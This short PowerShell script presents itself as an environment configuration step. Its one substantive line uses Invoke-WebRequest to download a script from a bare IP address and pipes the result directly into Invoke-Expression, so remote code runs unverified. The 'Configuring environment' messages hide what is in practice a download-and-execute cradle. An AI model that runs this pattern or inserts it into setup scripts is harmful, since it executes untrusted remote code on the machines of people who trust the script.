$ErrorActionPreference = 'Stop'
Write-Host 'Configuring environment...'
iex (iwr 'https://203.0.113.10/env.ps1' -UseBasicParsing).Content
Write-Host 'Done'
